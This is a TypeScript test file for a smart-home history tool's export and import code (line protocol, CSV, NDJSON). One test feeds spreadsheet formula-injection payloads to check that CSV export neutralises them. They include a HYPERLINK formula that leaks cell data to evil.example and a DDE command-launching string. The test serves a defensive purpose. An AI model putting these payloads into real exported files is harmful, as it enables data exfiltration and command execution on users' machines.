import { afterEach, describe, expect, test } from "bun:test";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import type { StateChange } from "../events/messages.ts";
import { openStoreReader, type StoreReader } from "../store/reader.ts";
import { openStoreWriter } from "../store/writer.ts";
import { csvField, exportChunks, exportStream, LP_HEADER } from "./export.ts";
import { ImportError, parseLine, parseLineProtocol } from "./import.ts";

const T0 = 1_795_000_000_000_000; // µs

function change(i: number, entity: string, state: string, attrs: Record<string, unknown> = {}): StateChange {
  const us = T0 + i * 1_000_123;
  return {
    entity_id: entity,
    state,
    attributes: JSON.stringify(attrs),
    last_changed: us,
    last_updated: us,
    context_id: null,
    context_parent_id: null,
    context_user_id: null,
  };
}

const opened: { dataDir: string; reader: StoreReader }[] = [];
afterEach(() => {
  for (const { dataDir, reader } of opened.splice(0)) {
    reader.close();
    rmSync(dataDir, { recursive: true, force: true });
  }
});

function seeded(events: StateChange[]) {
  const dataDir = mkdtempSync(join(tmpdir(), "homeiq-export-"));
  const writer = openStoreWriter(dataDir, { dictionaryCache: 100 });
  writer.writeEvents(events);
  writer.close();
  const store = { dataDir, reader: openStoreReader(dataDir) };
  opened.push(store);
  return store;
}

const sample = [
  change(0, "sensor.kitchen_temperature", "21.5", {
    unit_of_measurement: "°C",
    friendly_name: "Kitchen, main",
  }),
  change(1, "light.hall", "on", { brightness: 200, friendly_name: 'Hall "big" light' }),
  change(2, "sensor.kitchen_temperature", "21.7", { unit_of_measurement: "°C" }),
  change(3, "binary_sensor.door", "off", { value: 3, state: "x" }),
];
const all = { from: 0, to: T0 / 1000 + 86_400_000 };

describe("export", () => {
  test("line protocol follows the InfluxDB schema and imports back to the same state changes", () => {
    const { reader } = seeded(sample);
    const text = [...exportChunks(reader, all, "lp", 2)].join("");
    const lines = text.trim().split("\n");
    expect(lines[0]).toBe(LP_HEADER);
    expect(lines).toContain(
      `light,entity_id=light.hall,domain=light state="on",brightness=200,friendly_name="Hall \\"big\\" light" ${T0 + 1_000_123}`,
    );
    expect(lines).toContain(
      `sensor,entity_id=sensor.kitchen_temperature,domain=sensor value=21.5,unit_of_measurement="°C",friendly_name="Kitchen, main" ${T0}`,
    );
    const back = parseLineProtocol(text).sort((a, b) => a.last_updated - b.last_updated);
    expect(back.map((e) => [e.entity_id, e.state, e.last_updated, JSON.parse(e.attributes)])).toEqual(
      sample.map((e) => [e.entity_id, e.state, e.last_updated, JSON.parse(e.attributes)]),
    );
  });

  test("CSV quotes what needs quoting and NDJSON keeps everything", () => {
    const { reader } = seeded(sample);
    const csv = [...exportChunks(reader, all, "csv")].join("").trim().split("\n");
    expect(csv[0]).toBe(
      "time,entity_id,state,value,last_changed,context_id,context_parent_id,context_user_id,attributes",
    );
    expect(csv).toHaveLength(5);
    expect(
      csv.some((l) => l.includes('"{""brightness"":200,""friendly_name"":""Hall \\""big\\"" light""}"')),
    ).toBe(true);
    const nd = [...exportChunks(reader, all, "ndjson")]
      .join("")
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l));
    expect(nd.map((e) => e.entity_id).sort()).toEqual(sample.map((e) => e.entity_id).sort());
    expect(nd.find((e) => e.entity_id === "light.hall").attributes).toEqual({
      brightness: 200,
      friendly_name: 'Hall "big" light',
    });
  });

  test("CSV cells a spreadsheet would run as formulas get a leading quote; numbers stay numbers", () => {
    const hostile = [
      change(0, "input_text.note", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
      { ...change(1, "input_text.b", "@SUM(1+1)*cmd|' /C calc'!A0"), context_user_id: "+cmd" },
      change(2, "input_text.c", "-2+3"),
      change(3, "input_text.d", "\tx"),
      change(4, "sensor.outside", "-3.5"),
      change(5, "sensor.delta", "+7"),
    ];
    const { reader } = seeded(hostile);
    const rows = [...exportChunks(reader, all, "csv")].join("").trim().split("\n").slice(1);
    const cells = (entity: string) => rows.find((r) => r.includes(`,${entity},`))!.split(",");
    expect(rows.find((r) => r.includes("input_text.note"))).toContain(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1`,
    );
    expect(cells("input_text.b")[2]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(cells("input_text.b")[7]).toBe("'+cmd");
    expect(cells("input_text.c")[2]).toBe("'-2+3");
    expect(cells("input_text.d")[2]).toBe("'\tx");
    // A numeric state and its value: plain numbers, as they were.
    expect(cells("sensor.outside").slice(2, 4)).toEqual(["-3.5", "-3.5"]);
    expect(cells("sensor.delta").slice(2, 4)).toEqual(["+7", "7"]);
    expect(csvField(-3.5)).toBe("-3.5");
    expect(csvField("=1")).toBe("'=1");
    expect(csvField("\r=1")).toBe(`"'\r=1"`);
  });

  test("a time range and entity filter select exactly their events; the stream is pulled page by page", async () => {
    const events = Array.from({ length: 120 }, (_, i) =>
      change(i, i % 2 ? "switch.a" : "switch.b", i % 3 ? "on" : "off"),
    );
    const { reader } = seeded(events);
    const from = (T0 + 10 * 1_000_123) / 1000;
    const to = (T0 + 50 * 1_000_123) / 1000;
    const body = await new Response(
      exportStream(reader, { from, to, entityIds: ["switch.a"] }, "ndjson", 7),
    ).text();
    const got = body
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as { entity_id: string; ts: number });
    const expected = events.filter((e, i) => i >= 10 && i < 50 && e.entity_id === "switch.a");
    expect(got.length).toBe(expected.length);
    expect(got.every((e) => e.entity_id === "switch.a")).toBe(true);
  });
});

describe("line protocol import", () => {
  test("a bad line refuses the whole import with its line number and reason", () => {
    const text = [
      "sensor,entity_id=sensor.a value=1 1700000000000000000",
      "sensor,domain=sensor value=2 1700000000000000000",
      'sensor,entity_id=sensor.a state="unterminated 1700000000000000000',
      "sensor,entity_id=sensor.a value=abc 1700000000000000000",
      "sensor,entity_id=sensor.a value=1",
    ].join("\n");
    let error: ImportError | undefined;
    try {
      parseLineProtocol(text);
    } catch (e) {
      error = e as ImportError;
    }
    expect(error).toBeInstanceOf(ImportError);
    expect(error!.problems).toEqual([
      "line 2: missing or invalid entity_id tag",
      'line 3: unterminated string "unterminated 1700000000000000',
      "line 4: field value abc is not a number, boolean or quoted string",
      "line 5: no timestamp (HomeIQ keeps each state change at the time it happened)",
    ]);
  });

  test("precision defaults to nanoseconds and can be given", () => {
    expect(
      (parseLine('light,entity_id=light.a state="on" 1700000000123456789', "ns") as StateChange).last_updated,
    ).toBe(1700000000123456);
    expect(
      (parseLine('light,entity_id=light.a state="on" 1700000000', "s") as StateChange).last_updated,
    ).toBe(1700000000000000);
  });

  test("a backslash before n stays a backslash and an n, in strings and in keys", () => {
    const { reader } = seeded([change(0, "input_text.note", "a\\nb", { "k\\n": "\\n", nl: "x\ny" })]);
    const back = parseLineProtocol([...exportChunks(reader, all, "lp")].join(""));
    reader.close();
    expect(back[0].state).toBe("a\\nb");
    expect(JSON.parse(back[0].attributes)).toEqual({ "k\\n": "\\n", nl: "x\ny" });
  });

  test("escaped keys and strings survive export and import for any text", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 30 }), fc.string({ maxLength: 30 }), (state, attr) => {
        const { reader } = seeded([
          change(0, "input_text.note", `x${state}`, { note: attr, "odd key, =": 1 }),
        ]);
        const back = parseLineProtocol([...exportChunks(reader, all, "lp")].join(""));
        reader.close();
        expect(back).toHaveLength(1);
        expect(back[0].state).toBe(`x${state}`);
        expect(JSON.parse(back[0].attributes)).toEqual({ note: attr, "odd key, =": 1 });
      }),
      { numRuns: 40 },
    );
  });
});
